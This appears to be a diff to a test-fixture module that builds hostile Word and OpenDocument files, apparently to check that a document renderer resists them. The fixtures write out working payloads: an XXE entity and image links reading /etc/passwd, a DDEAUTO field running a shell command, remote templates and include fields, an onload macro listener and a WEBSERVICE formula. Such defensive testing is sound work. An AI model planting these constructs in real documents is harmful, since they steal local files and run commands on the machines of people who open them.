@@ -49,6 +49,7 @@ export function hostileArchives(url: string): Raw[] {
       name: 'h.docx',
       content: replaced(word, 'word/document.xml', xml('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a document of a billion laughs',
@@ -103,48 +104,62 @@ export function hostileDocuments(url: string): Raw[] {
         ? { ...part, content: String(part.content).replace('<w:body>', `<w:body>${inner}`) }
         : part,
     );
-  const picture = (target: string) =>
-    withBody(
-      `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt"><v:imagedata r:id="r9" src="${target}"/></v:shape></w:pict></w:r></w:p>`,
-    ).map((part) =>
+  const shape = (target: string) =>
+    `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt"><v:imagedata r:id="r9" src="${target}"/></v:shape></w:pict></w:r></w:p>`;
+  const picture = (target: string, more = '') =>
+    withBody(shape(target) + more).map((part) =>
       part.name === 'word/_rels/document.xml.rels' ? { ...part, content: link('image', target) } : part,
     );
+  const template = [
+    {
+      name: 'word/settings.xml',
+      content:
+        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r9"/></w:settings>',
+    },
+    { name: 'word/_rels/settings.xml.rels', content: link('attachedTemplate', `${url}/t.dotm`) },
+  ];
+  const others =
+    field(`INCLUDETEXT "${url}/t.docx"`) +
+    field(`INCLUDEPICTURE "${url}/p.png" \\d`) +
+    field('DDEAUTO /bin/sh "touch /tmp/owned"');
   const odt = (body: string) => zip(openDocumentParts('text', `<office:text>${body}</office:text>`));
   const frame = (target: string) =>
     `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>`;
+  const section = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners><text:section text:name="s"><text:section-source xlink:href="${url}/s.odt" text:filter-name="writer8"/><text:p>x</text:p></text:section>`;
   const sheet = `<office:spreadsheet><table:table table:name="S"><table:table-source xlink:href="${url}/t.ods" table:filter-name="calc8" table:refresh-delay="PT1S"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${url}/ods&quot;)"/></table:table-row></table:table></office:spreadsheet>`;
   return [
+    {
+      what: 'a document with a picture, a template and other documents elsewhere',
+      name: 'n.docx',
+      content: zip([...picture(`${url}/docx.png`, others), ...template]),
+      rendered: true,
+    },
+    {
+      what: 'a text document with pictures and a section elsewhere, pictures of this machine and a macro',
+      name: 'd.odt',
+      content: odt(section + frame(`${url}/odt.png`) + frame('file:///etc/passwd')),
+      rendered: true,
+    },
     {
       what: 'a document with a picture elsewhere',
       name: 'k.docx',
       content: zip(picture(`${url}/docx.png`)),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a document whose template is elsewhere',
       name: 'l.docx',
-      content: zip([
-        ...word,
-        {
-          name: 'word/settings.xml',
-          content:
-            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r9"/></w:settings>',
-        },
-        { name: 'word/_rels/settings.xml.rels', content: link('attachedTemplate', `${url}/t.dotm`) },
-      ]),
+      content: zip([...word, ...template]),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a document that includes others',
       name: 'm.docx',
-      content: zip(
-        withBody(
-          field(`INCLUDETEXT "${url}/t.docx"`) +
-            field(`INCLUDEPICTURE "${url}/p.png" \\d`) +
-            field('DDEAUTO /bin/sh "touch /tmp/owned"'),
-        ),
-      ),
+      content: zip(withBody(others)),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a workbook that asks a web service',
@@ -175,14 +190,14 @@ export function hostileDocuments(url: string): Raw[] {
       name: 'b.odt',
       content: odt(frame(`${url}/odt.png`) + frame('file:///etc/passwd')),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a text document with a section elsewhere and a macro',
       name: 'c.odt',
-      content: odt(
-        `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners><text:section text:name="s"><text:section-source xlink:href="${url}/s.odt" text:filter-name="writer8"/><text:p>x</text:p></text:section>`,
-      ),
+      content: odt(section),
       rendered: true,
+      repeats: true,
     },
     {
       what: 'a spreadsheet linked to one elsewhere',
